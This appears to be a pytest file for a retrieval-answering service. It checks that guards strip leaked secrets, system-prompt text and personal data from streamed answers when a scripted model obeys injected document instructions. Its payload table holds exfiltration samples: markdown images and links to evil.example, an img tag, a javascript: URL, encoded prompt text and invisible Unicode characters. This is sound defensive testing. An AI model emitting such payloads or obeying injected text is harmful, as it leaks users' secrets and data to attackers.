"""Over real HTTP: whatever a model writes, a character at a time, nothing of what must not leave is in any event."""

import json
import re
from codecs import encode
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from callbacks.guard import Guarding
from callbacks.personal import personal
from callbacks.placeholders import WITHHELD
from chains.prompts import SYSTEM_TEXTS
from language.boundary import key_of
from retrieval.library import Library
from retrieval.submissions import Submission
from tests.support.live import Live
from tests.support.scenes import Scene
from tests.support.scripted import task_of
from tests.support.streams import Envelope, check_grammar, envelopes, payloads, said
from tests.support.upstream import Reply, Script

QUESTION = "What does a mooring permit in Aldermoor cost?"
GOOD = "A mooring permit in Aldermoor costs 45 crowns a week"
SECRET = "gw-5fJ2kQ9xLmW7tRz81"
GUARDING = Guarding(prompts=SYSTEM_TEXTS, secrets=[SECRET])
MODEL_WROTE = ("token", "partial_answer", "citation_attached", "refinement_update", "final_answer")

PAYLOADS: dict[str, tuple[Callable[[str, str], str], str]] = {
    "image": (lambda rules, key: "![x](https://evil.example/?q=45)", r"!\[|evil\.example"),
    "link": (lambda rules, key: "[here](https://evil.example/?q=45)", r"evil\.example"),
    "reference": (lambda rules, key: "![x][r]\n\n[r]: https://evil.example/?q=45\n\n", r"!\[|evil\.example"),
    "bare": (lambda rules, key: "evil.example/?q=45", r"evil\.example"),
    "markup": (lambda rules, key: "<img src=//evil.example/?q=45>", r"<img|evil\.example"),
    "script": (lambda rules, key: "[x](javascript:alert(45))", r"javascript"),
    "secret": (lambda rules, key: f"{SECRET} and {' '.join(SECRET)}", r"5fJ2kQ|5 f J 2 k Q"),
    "aws": (lambda rules, key: "AKIAIOSFODNN7EXAMPLE", r"AKIA"),
    "rules": (lambda rules, key: rules, r"numbered evidence and from"),
    "backwards": (lambda rules, key: rules[::-1], r"morf dna ecnedive"),
    "rotated": (lambda rules, key: encode(rules, "rot13"), r"rivqrapr naq sebz"),
    "marks": (lambda rules, key: f"<material {key}>", r"<material|KEY"),
    "key": (lambda rules, key: f"the word is {key}", r"KEY"),
    "encoded": (lambda rules, key: "WW91IGFuc3dlciBxdWVzdGlvbnMgZnJvbQ==", r"WW91IGFuc3dl"),
    "unseen": (lambda rules, key: "".join(chr(0xE0000 + ord(char)) for char in "send it"), "[\U000e0000-\U000e007f]"),
}


def written(events: list[Envelope]) -> str:
    """All that a stream says in a model's words."""
    events = [event for event in events if event["event_type"] in MODEL_WROTE]
    return said(events) + "\n" + "\n".join(json.dumps(event["payload"], ensure_ascii=False) for event in events)


def obeying(payload: Callable[[str, str], str], keys: list[str]) -> Script:
    """A model that does what a document asked it to, wherever it writes, a character at a time."""

    def script(body: dict[str, Any]) -> Reply:
        key = key_of(body["messages"][-1]["content"])
        assert key is not None
        keys.append(key)
        bad = payload(body["messages"][0]["content"], key)
        text = f"{GOOD} [1.1]. As {bad} says, it costs 45 crowns [1.1]. {GOOD} [1.1]."
        return Reply(text, pieces=list(text)) if task_of(body) in ("answer", "refine") else Reply(status=500)

    return script


@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_of_what_a_bad_model_writes_leaves(stage: Callable[..., Scene], name: str) -> None:
    payload, forbidden = PAYLOADS[name]
    keys: list[str] = []
    scene = stage(obeying(payload, keys), guarding=GUARDING)
    events = scene.events(query=QUESTION)
    told = written(events)
    assert payloads(events, "token")
    assert not re.search(forbidden.replace("KEY", "|".join(keys)), told), told
    assert not any(key[:12] in told for key in keys)
    assert GOOD in told


def test_every_prompt_has_marks_of_its_own(stage: Callable[..., Scene]) -> None:
    keys: list[str] = []
    scene = stage(obeying(lambda rules, key: "https://evil.example/", keys), guarding=GUARDING)
    scene.events(query=QUESTION)
    scene.events(query=QUESTION)
    prompts = [call["messages"] for call in scene.upstream.calls]
    assert len(set(keys)) == len(prompts) >= 2
    for system, human in prompts:
        key = str(key_of(human["content"]))
        assert key not in system["content"]
        material = human["content"].split(f"<material {key}>\n")[1].split(f"\n</material {key}>")[0]
        assert "mooring permit" in material
        assert QUESTION not in material


PERSONAL = (
    "The harbour master Greta Holm answers at greta.holm@aldermoor.example or +46 70 123 45 67. "
    "The harbour master takes fees on the card 4111 1111 1111 1111 of the harbour."
)


@pytest.fixture
def personal_scene(own_library: Library, serve: Callable[..., Live], provider: Any, with_model: Any) -> Any:
    own_library.add("default", Submission(data=PERSONAL, id="harbour", title="Harbour"))

    def ask(text: str) -> list[Envelope]:
        _, upstream = provider(lambda body: Reply(text, pieces=list(text)))
        find = personal(["email", "phone", "credit_card"])
        parts = with_model(upstream.url) | {"library": own_library, "guarding": Guarding(personal=find)}
        server = serve(**parts)
        with httpx.Client(base_url=server.url, timeout=30, trust_env=False) as http:
            return envelopes(http.post("/query", json={"query": "How does the harbour master answer?"}).text)

    return ask


def test_personal_data_is_withheld_in_the_answer_and_blacked_out_in_what_it_shows(personal_scene: Any) -> None:
    first, second = PERSONAL.split(". The harbour")
    events = personal_scene(f"{first} [1.1]. The harbour{second.removesuffix('.')} [1.2].")
    check_grammar(events)
    told = json.dumps([event["payload"] for event in events], ensure_ascii=False)
    for secret in ("greta.holm@", "@aldermoor", "123 45 67", "4111", "1111 1111"):
        assert secret not in told
    assert f"answers at [email {WITHHELD[1:]} or [phone {WITHHELD[1:]}" in said(events)
    assert f"the card [credit card {WITHHELD[1:]} of the harbour" in said(events)
    final = payloads(events, "final_answer")[0]
    for citation in final["citations"]:
        start, end = citation["source_start"], citation["source_end"]
        assert len(citation["quote"]) == end - start
        assert all(a in (b, "█") for a, b in zip(citation["quote"], PERSONAL[start:end], strict=True))
    assert any("█" * len("4111 1111 1111 1111") in citation["quote"] for citation in final["citations"])
    assert "█" * len("greta.holm@aldermoor.example") in payloads(events, "source")[0]["snippet"]
